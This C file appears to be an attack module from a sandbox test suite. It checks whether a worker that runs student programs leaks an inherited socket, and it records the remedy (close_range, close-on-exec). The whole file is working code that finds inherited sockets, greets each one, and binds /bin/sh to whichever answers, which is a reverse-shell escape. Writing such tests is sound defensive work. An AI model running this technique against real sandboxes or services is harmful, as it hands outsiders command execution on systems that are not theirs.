// SPDX-License-Identifier: MIT
/*
 * Goal:  somebody outside gives the orders, where no socket can be made.
 * Means: a socket that is already there: the worker's link to its platform, which was not closed
 *        when the student's program was started. fstat(2) tells it from a file; it is greeted with
 *        write(2), and whoever answers gets a shell on it. No call with "socket" in its name.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <poll.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HIGHEST 1024

/* Greet every socket we were born with; collect them in links. */
static nfds_t greet(struct pollfd *links)
{
	static const char hello[] = "hello\n";
	struct stat st;
	nfds_t n = 0;

	for (int fd = STDERR_FILENO + 1; fd < HIGHEST; fd++)
		if (!fstat(fd, &st) && S_ISSOCK(st.st_mode) &&
		    write(fd, hello, strlen(hello)) > 0)
			links[n++] = (struct pollfd){ .fd = fd, .events = POLLIN };
	return n;
}

static enum claim run(const struct brief *b)
{
	static struct pollfd links[HIGHEST];
	nfds_t n;

	alarm(4); /* survives execve: the shell ends with it */
	attempting(b);
	n = greet(links);
	errno = ENOTSOCK;
	if (!n)
		return denied("no socket was inherited");
	poll(links, n, 3000);
	for (nfds_t i = 0; i < n; i++) {
		if (!(links[i].revents & POLLIN))
			continue;
		for (int stream = 0; stream < 3; stream++)
			dup2(links[i].fd, stream);
		execl("/bin/sh", "sh", (char *)NULL);
		return denied("execve /bin/sh");
	}
	errno = ETIMEDOUT;
	return denied("nobody answered on the inherited socket");
}

const struct attack attack = {
	.effect = "somebody outside gives the orders",
	.means = "a shell on a socket inherited from the worker; none is made",
	.oracle = "shell",
	.quick = true,
	.id = "RSH-10",
	.attack_id = "T1059.004, CWE-403",
	.remedy = "close_range(2) before the student's program starts; close-on-exec in the worker",
	.refs = (const char *const[]){ "close_range(2)", NULL },
	.run = run,
};
